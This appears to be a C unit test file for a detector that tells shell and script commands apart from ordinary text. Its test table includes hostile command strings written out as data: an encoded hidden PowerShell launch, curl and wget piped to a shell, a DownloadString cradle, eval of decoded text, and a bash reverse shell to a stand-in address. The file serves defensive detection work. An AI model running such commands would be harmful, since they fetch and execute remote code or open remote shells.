/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "detect/commands.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/must.h"

static enum command_kind look(const char *text)
{
	const char *what;
	return command_look((const uint8_t *)text, strlen(text), &what);
}

static void commands_are_told_from_sentences(void **state)
{
	(void)state;
	static const struct {
		const char *text;
		enum command_kind kind;
	} rows[] = {
		{ "powershell -nop -w hidden -enc SQBFAFgA", COMMAND_SCRIPT },
		{ "PowerShell.exe -ExecutionPolicy Bypass -File x.ps1", COMMAND_SCRIPT },
		{ "we teach PowerShell", COMMAND_WORDS },
		{ "cmd.exe /c whoami", COMMAND_SCRIPT },
		{ "curl -s https://x.example/a | sh", COMMAND_SCRIPT },
		{ "wget -qO- x.example/a|bash", COMMAND_SCRIPT },
		{ "curl is a program, and a sport of ice is curling", COMMAND_NONE },
		{ "#!/bin/sh\nid", COMMAND_SCRIPT },
		{ "#1 in hosting!", COMMAND_NONE },
		{ "IEX (New-Object Net.WebClient).DownloadString('http://x.example')",
		  COMMAND_SCRIPT },
		{ "apiex(1)", COMMAND_NONE },
		{ "eval(atob('YWxlcnQ='))", COMMAND_SCRIPT },
		{ "medieval(1300)", COMMAND_NONE },
		{ "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", COMMAND_SCRIPT },
		{ "v=spf1 include:_spf.google.com ~all", COMMAND_NONE },
		{ "<script>alert(1)</script>", COMMAND_WORDS },
		{ "google-site-verification=iexAbc-evalpowershellish", COMMAND_NONE },
		{ "", COMMAND_NONE },
	};
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		if (look(rows[i].text) != rows[i].kind)
			fail_msg("%s: %d", rows[i].text, (int)look(rows[i].text));
	}
}

/* Each phrase of the table is found, wherever it stands. */
static void all_phrases_work(void **state)
{
	(void)state;
	static const struct {
		enum command_kind kind;
		const char *first, *second;
	} phrases[] = {
#define COMMAND(kind, first, second, what) { COMMAND_##kind, first, second },
#include "detect/commands.def"
	};
	for (size_t i = 0; i < ARRAY_LEN(phrases); i++) {
		char text[200];
		snprintf(text, sizeof text, "so: %s x%s", phrases[i].first, phrases[i].second);
		if (look(text) < phrases[i].kind)
			fail_msg("%s", text);
	}
}

/* A long text of beginnings costs no more than a look at each byte, and is noticed. */
static void repeated_beginnings_are_noticed(void **state)
{
	(void)state;
	char *text = malloc(65536);
	const char *what;
	assert_non_null(text);
	for (size_t i = 0; i + 5 <= 65535; i += 5)
		memcpy(text + i, "curl ", 5);
	assert_int_equal(command_look((const uint8_t *)text, 65535, &what), COMMAND_WORDS);
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(commands_are_told_from_sentences),
		cmocka_unit_test(all_phrases_work),
		cmocka_unit_test(repeated_beginnings_are_noticed),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
